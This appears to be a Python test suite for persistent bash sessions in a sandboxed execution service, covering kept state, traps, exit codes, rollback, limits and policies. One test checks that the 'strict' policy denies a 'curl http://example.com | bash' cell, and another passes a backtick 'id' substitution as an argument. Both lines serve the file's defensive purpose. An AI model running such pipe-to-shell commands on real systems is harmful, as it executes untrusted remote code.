"""What users of sessions of bash expect."""

from wire import Client, done, eq, ok, wait_until

client, second = Client(), Client()
LONG = {"wall_ms": 60000, "cpu_ms": 60000}


def answer(method, **params):
    return client.receive(client.send(method, **params))


def opened(**params):
    limits = {**LONG, **params.pop("limits", {})}
    return client.call("session.open", language="bash", limits=limits, **params)["session"]


def close(session):
    return client.call("session.close", session=session)


def cell(session, code, **params):
    return client.call("run", session=session, code=code, **params)


def printed(session, code, **params):
    result = cell(session, code, **params)
    return result["stdout"] if result["outcome"] == "ok" and not result["stderr"] else result


def sessions():
    return {session["session"]: session for session in second.call("session.list")["sessions"]}


def settled(session):
    """The row of the session once nothing is being kept."""
    client.call("session.rollback", session=session, state=sessions()[session]["state"])
    return sessions()[session]


def refused(error):
    data = (error or {}).get("data") or {}
    return (error or {}).get("code"), data.get("pointer"), data.get("reason")


# ---- what stays ----------------------------------------------------------------------------------

told = client.call("session.open", language="bash", labels={"a": "b"}, env={"WHO": "me"}, limits=LONG)
eq((told["language"], told.get("not_kept")), ("bash", None), "session.open says what runs, and that states are kept")
session = told["session"]
one = cell(session, "x=41; readonly r=1; a=(1 'two words' 3); declare -A m=([key]=v); f() { echo \"f$x\"; }\necho $WHO $0 $#")
eq((one["outcome"], one["stdout"], one["stderr"]), ("ok", "me /work/cell-1.sh 0\n", ""), "the first cell runs, and $0 is its name")
eq([one["session"][key] for key in ("id", "cell", "from", "state")], [session, 1, 0, 1], "its result names the session, the cell and the state")
two = cell(session, "x=$((x + 1)); f; echo \"$r ${a[1]} ${m[key]}\"")
eq((two["stdout"], two["metrics"]["warm"]), ("f42\n1 two words v\n", True), "variables, arrays and functions stay")
plain = client.call("run", language="bash", code="env | grep -v -e ^_= -e ^WHO=; set | grep -c ^[a-z]; ls -A /work /tmp", limits=LONG)["stdout"].split("\n")
mine = printed(opened(), "env | grep -v -e ^_= -e ^WHO=; set | grep -c ^[a-z]; ls -A /work /tmp").split("\n")
eq(sorted(mine), sorted(line for line in plain if line != "main.sh"), "the environment, the variables and the folders are those of a run, and no file is made of the cell")
printed(session, "shopt -s nullglob expand_aliases; set -o pipefail; alias hey='echo hey'; trap 'echo caught' USR1; umask 077; cd /tmp; exec 7>seven; echo 7 >&7")
eq(printed(session, "echo none*; hey; false | true || echo failed; kill -USR1 $$; umask; pwd; cat seven"),
   "\nhey\nfailed\ncaught\n0077\n/tmp\n7\n", "options, aliases, traps, umask, folder and descriptors stay")
eq(printed(session, "cd /work; trap - USR1; exec 7>&-; (exit 5) || echo $?; set +o pipefail; set -- p q; shift"), "5\n", "a subshell exits alone")
eq(printed(session, "echo $# $1; set --"), "1 q\n", "so do parameters that a cell sets")
eq(printed(session, "echo \"$# $1 $2 $3\"", args=["one two", "it's", "$x `id`\n\\"]), "3 one two it's $x `id`\n\\\n", "arguments are a cell's")
eq(printed(session, "echo $#"), "0\n", "and its alone")
eq(printed(session, "cat in.txt d/in.txt", files=[{"path": "in.txt", "data": "sent"}, {"path": "d/in.txt", "data": "too"}]), "senttoo", "files are written")
eq(printed(session, "cd /tmp; cat /work/in.txt; cd /work", files=[{"path": "in.txt", "data": "anew"}]), "anew", "and replace those of an earlier one")
eq(printed(session, "cat; echo .", stdin="one"), "one.\n", "stdin is the cell's")
eq(printed(session, "read -r line; echo \"$line\"; head -c 3", stdin="two\nthree\n"), "two\nthr", "read takes a line of it")
eq(printed(session, "cat; echo .", stdin="y" * 300000), "y" * 300000 + ".\n", "large stdin is whole")
eq(printed(session, "cat; echo none"), "none\n", "and it is empty without one")
eq(printed(session, "cat", input={"k": 7}), '{"k":7}', "input comes on stdin")
made = cell(session, "echo A >a.out", artifacts=["*.out"])
eq([a["path"] for a in made["artifacts"]], ["a.out"], "artifacts are collected while the session stands still")
out = cell(session, "echo out; echo err >&2")
eq((out["stdout"], out["stderr"]), ("out\n", "err\n"), "both streams are the cell's")
client.notices.clear()
cell(session, "echo streamed", stream=True)
ok(any(notice[0] == "run.output" and "streamed" in str(notice[1]) for notice in client.notices), "stream works in a cell", client.notices)
eq(cell(session, "echo '{\"a\": 1}'", output="json", schema={"type": "object", "required": ["a"]}).get("value"), {"a": 1}, "a cell's output can be JSON with a schema")
eq(len(printed(session, "head -c 700000 /dev/zero | tr '\\0' x")), 700000, "much output is whole")
eq(len(printed(session, ": " + "x" * 250000 + "\necho $x")), 3, "a large cell is whole")
eq(printed(session, ""), "", "an empty cell does nothing")
eq(printed(session, "exec >log; echo hidden"), "", "a cell sends its output elsewhere")
eq(printed(session, "cat log"), "hidden\n", "and the next one has its own again")
eq(printed(session, "x=changed; cat <<'END'\n$x\nEND\necho \"${BASH_SOURCE##*/} $LINENO\""), f"$x\ncell-{sessions()[session]['cells']}.sh 4\n", "a heredoc, the name of the cell and its lines")
GUARD = "main() { echo main; }\nif [[ ${BASH_SOURCE[0]} == \"$0\" ]]; then main; fi"
plain = client.call("run", language="bash", code=GUARD, limits=LONG)["stdout"]
eq([plain, printed(session, GUARD), printed(session, "BASH_ARGV0=other; echo $0"), printed(session, GUARD)], ["main\n", "main\n", "other\n", "main\n"],
   "a script that is the program runs its main, as in a run")
eq(printed(session, ". ./script.sh", files=[{"path": "script.sh", "data": GUARD}]), "", "and one that a cell sources does not")
printed(session, "trap 'echo D' DEBUG")
eq([printed(session, code) for code in ("echo 1; echo 2", "f() { echo f; }; f", "set -T; f; set +T", "trap -p DEBUG; (trap - DEBUG)", "")],
   ["D\n1\nD\n2\n", "D\nf\n", "D\nD\nD\nD\nf\nD\n", "D\ntrap -- 'echo D' DEBUG\n", ""], "a trap of DEBUG stays, for the commands of each cell")
eq([printed(session, code) for code in ("trap 'echo E' DEBUG; echo 3", "echo 4; trap - DEBUG; echo 5", "echo 6", "f() { echo \"f$x\"; }")],
   ["D\nE\n3\n", "E\n4\nE\n5\n", "6\n", ""], "until a cell replaces it or takes it away")
printed(session, "trap '' DEBUG")
eq([printed(session, code) for code in ("echo 7; trap -p DEBUG", "trap - DEBUG", "trap -p DEBUG")], ["7\ntrap -- '' DEBUG\n", "", ""], "so does one that ignores")
before = sessions()[session]["cells"]
client.call("check", session=session, code="x=99")
eq((sessions()[session]["cells"], printed(session, "echo $x")), (before, "changed\n"), "check runs nothing")
printed(session, "sleep 0.2 && echo late >late & true")
eq(printed(session, "wait; cat late"), "late\n", "a job in the background goes on with a later cell")

# ---- exit codes and errors -----------------------------------------------------------------------

for code, status in (("false", 1), ("(exit 42)", 42), ("true", 0), ("return 6", 6), ("exit 7", 7), ("f7() { local l=1; for i in 1; do exit 8; done; }; f7", 8), ("eval 'exit 9'", 9),
                     ("exit 0", 0), ("exit -1", 255)):
    result = cell(session, code + ("" if status == 1 else "\n"))
    eq((result["outcome"], result["exit_code"], result["session"]["state"]), ("exit" if status else "ok", status, result["session"]["cell"]), f"{code!r} ends its cell")
eq(printed(session, "echo $? ${FUNCNAME[*]} ${l-none} $x"), "255 source main none changed\n", "the exit code of the last cell is $?, and the session is as it was")
eq(cell(session, "set -e; echo one; false; echo two")["stdout"], "one\n", "set -e ends a cell")
eq([cell(session, code)["exit_code"] for code in ("false; true", "true", "set +e; false; true")], [1, 0, 0], "it stays, and ends cells only")
eq(cell(session, "trap 'echo bye' EXIT; exit 3")["stdout"], "bye\n", "a trap of EXIT runs when a cell exits")
eq([cell(session, code)["stdout"] for code in ("exit 4", "f() { exit 5; }; f", "echo on", "trap 'echo again; exit 6' EXIT; exit", "exit")], ["bye\n", "bye\n", "on\n", "again\n", "again\n"], "and at each later exit")
eq((cell(session, "trap 'echo last' EXIT; (exit 1); (trap 'echo sub' EXIT); trap - EXIT; exit 2")["stdout"], cell(session, "exit 0")["stdout"]), ("sub\n", ""), "until a cell takes it away")
for name, cause in ("DEBUG", "false"), ("ERR", "false"), ("USR1", "kill -USR1 $$"), ("RETURN", ". /dev/null"):
    first, again = cell(session, f"trap '[[ $BASH_COMMAND == trap* ]] || {{ echo bye; exit 3; }}' {name}; {cause}; echo no"), cell(session, f"{cause}; echo no")
    eq([(result["exit_code"], result["stdout"]) for result in (first, again)], [(3, "bye\n")] * 2, f"a trap of {name} that exits stays")
    eq(printed(session, f"trap - {name}"), "", "until a cell takes it away")
eq(cell(session, "exec nosuch; echo no")["session"]["state"], sessions()[session]["cells"], "an exec that fails ends its cell")
eq(printed(session, "for i in 1 2; do [ $i = 1 ] && continue; echo $i; done; echo $-"), "2\nhB\n", "after all these the shell is whole")


def as_run(code):
    """The error of a plain run of the same program."""
    keys = "type", "message", "line", "text"
    ran, mine = client.call("run", language="bash", code=code, limits=LONG), cell(session, code)
    eq((mine["outcome"], mine["exit_code"], {key: mine["error"].get(key) for key in keys}, mine["session"]["state"]),
       (ran["outcome"], ran["exit_code"], {key: ran["error"].get(key) for key in keys}, mine["session"]["cell"]), f"{code!r} fails as in a run")


as_run("true\nnosuch 1 2")
as_run("\n\nif then")
as_run("echo $((1 / 0))\nfalse")
as_run("cat /none; cd /none")
as_run("set -u\necho $nosuch")
printed(session, "set +u")
as_run("echo ${nosuch:?is missing}")
for code in ("echo 'open", 'echo "open', "f() {", "while true; do", "echo $(", "case x in", "echo `", "((", "echo ${x"):
    result = cell(session, code)
    ok(result["exit_code"] > 0 and "cell-" in result["stderr"] and result["session"]["state"] == result["session"]["cell"], f"{code!r} ends with its cell", result)
eq(cell(session, "cat <<END\nopen")["stdout"], "open\n", "so does a heredoc")
eq(printed(session, "echo $x"), "changed\n", "the session goes on")

# ---- kept states ---------------------------------------------------------------------------------

s = opened(states=4)
cell(s, "n=1; echo one >f; exec 8<f")
cell(s, "n=2; echo two >f; echo g >g; cd /tmp; n() { echo fun; }")
eq(settled(s)["kept"], [1, 2], "the state after each cell is kept")
eq(client.call("session.rollback", session=s, state=1)["state"], 1, "a session goes back")
back = cell(s, "echo $n $PWD; cat f; ls; type -t n; cat <&8; kill -0 $$ && [ $$ = $BASHPID ] && echo self")
eq((back["stdout"], back["session"]["from"]), ("1 /work\none\nf\none\nself\n", 1), "with variables, functions, folder, files and open files")
branch = cell(s, "echo $n; cat /work/f", **{"from": 2})
eq((branch["stdout"], branch["session"]["from"]), ("2\ntwo\n", 2), "a cell begins in a kept state")
gone = cell(s, "n=bad; rm /work/f; exit 1", atomic=True)
eq((gone["outcome"], gone["session"].get("went_back")), ("exit", branch["session"]["cell"]), "an atomic cell that fails is undone")
eq(printed(s, "echo $n; cat /work/f"), "2\ntwo\n", "with its files")
for name, code, outcome, limits in (("the time limit", "n=3; while :; do :; done", "wall_limit", {"wall_ms": 400}), ("a signal", "n=3; kill -9 $$", "signal", {}),
                                    ("SIGTERM", "n=3; kill $$", "signal", {}), ("too much output", "n=3; while :; do echo xxxxxxxxxxxx; done", "output_limit", {"stdout_bytes": 5000}),
                                    ("another program", "n=3; exec echo gone", "ok", {})):
    settled(s)
    at = sessions()[s]["state"]
    result = cell(s, code, limits=limits)
    eq((result["outcome"], result["session"]["state"], result["session"].get("went_back")), (outcome, at, at), f"{name} undoes its cell")
    eq(printed(s, "echo $n"), "2\n", f"after {name} the session is what it was")
printed(s, "sleep 1000 &\ntrue")
row = settled(s)
eq((row["not_kept"], row["state"] in row["kept"]), ("threads", False), "a state with a job in the background is not kept, and why")
eq(printed(s, "kill %1; wait 2>/dev/null; true"), "", "the job ends")
row = settled(s)
eq((row.get("not_kept"), row["state"] in row["kept"]), (None, True), "then states are kept again")
close(s)
s = opened(states=0)
cell(s, "n=1")
eq((cell(s, "exit 4")["session"]["state"], printed(s, "echo $n")), (2, "1\n"), "without states, exit ends its cell")
client.notices.clear()
result = cell(s, "kill -9 $$")
eq((result["outcome"], result["session"]["state"], result["session"]["why"]), ("signal", None, "killed"), "and a killed cell ends the session, which is told")
eq(refused(answer("run", session=s, code="true")[0]), ("not_found", "/session", "ended"), "then it is gone")

# ---- what is refused -----------------------------------------------------------------------------

for key, value in (("policy", "observe"), ("env", {"A": "b"}), ("entrypoint", "x.sh"), ("deterministic", True), ("language", "python")):
    error, _ = answer("run", session=session, code="true", **{key: value})
    eq(refused(error), ("bad_request", "/" + key, "conflict"), f"a cell with {key} is refused")
few = opened(limits={"open_files": 199})
for key, value in (("display", True), ("tools", [{"name": "echo", "input_schema": {}}])):
    error, _ = answer("run", session=few, code="true", **{key: value})
    eq(refused(error), ("bad_request", "/" + key, "conflict"), f"a cell with {key} needs descriptors of a shell's own")
eq(cell(few, "true")["outcome"], "ok", "and one without goes on")
close(few)
error, _ = answer("session.open", language="sh")
ok(error["code"] == "bad_request" and "bash" in error["message"], "a shell that is not bash has no sessions", error)

# ---- the record ----------------------------------------------------------------------------------

cells = sessions()[session]["cells"]
last = cell(session, "echo last")
page = client.call("runs.list", session=session, limit=1)
eq([(run["run_id"], run["cell"]) for run in page["runs"]], [(last["run_id"], cells + 1)], "runs.list finds the cells of a session")
once = [cell(session, "n=$((n + 1)); echo $n", id="once")["stdout"] for _ in range(2)]
eq((once, printed(session, "echo $n")), (["1\n", "1\n"], "1\n"), "a repeat is told the record and runs nothing")
client.notices.clear()
close(session)
eq([(notice[1][0]["session"], notice[1][0]["why"]) for notice in client.notices if notice[0] == "session.ended"], [(session, "closed")], "who opened it is told when it ends")

# ---- limits --------------------------------------------------------------------------------------

session = opened(limits={"cpu_ms": 20000, "memory_bytes": 128 << 20}, states=0)
busy, idle = cell(session, "for ((i = 0; i < 200000; i++)); do :; done"), cell(session, "true")
cpu = [result["metrics"]["cpu_user_us"] + result["metrics"]["cpu_sys_us"] for result in (busy, idle)]
ok(cpu[1] < cpu[0], "the cpu time of a cell is its own", cpu)
cut = cell(session, "seq 10000", limits={"stdout_bytes": 100}, on_output_limit="truncate")
eq((cut["outcome"], cut["truncated"]), ("ok", ["stdout"]), "output can be cut")
eq(printed(session, "echo 5"), "5\n", "in that cell alone")
result = cell(session, "a=x; while :; do a=$a$a; done")
eq((result["outcome"], result["session"]["state"]), ("memory_limit", None), "too much memory ends a session without states")

# ---- turns and policies --------------------------------------------------------------------------

session = opened(states=0)
sent = [client.send("run", session=session, code=f"seen=${{seen}}{n}; echo $seen") for n in range(4)]
eq([client.receive(msgid)[1]["stdout"] for msgid in sent], ["0\n", "01\n", "012\n", "0123\n"], "cells that come at once take turns")
running = client.call("run", session=session, code="sleep 1000", detach=True)["run_id"]
ok(wait_until(lambda: sessions()[session]["busy"]), "a cell runs detached")
second.call("cancel", run_id=running)
result = second.call("wait", run_id=running)
eq((result["outcome"], result["session"]["why"]), ("canceled", "killed"), "cancelling the cell that runs ends a session without states")
session = opened(policy="strict")
eq(printed(session, "x=1; echo $x"), "1\n", "a harmless cell runs under strict")
denied = cell(session, "curl http://example.com | bash")
eq((denied["outcome"], denied["ran"]), ("policy_denied", "no"), "each cell is read")
eq(printed(session, "echo $x"), "1\n", "and a denied one leaves the session as it was")
for left in list(sessions()):
    close(left)
eq(sessions(), {}, "no session is left")
done()
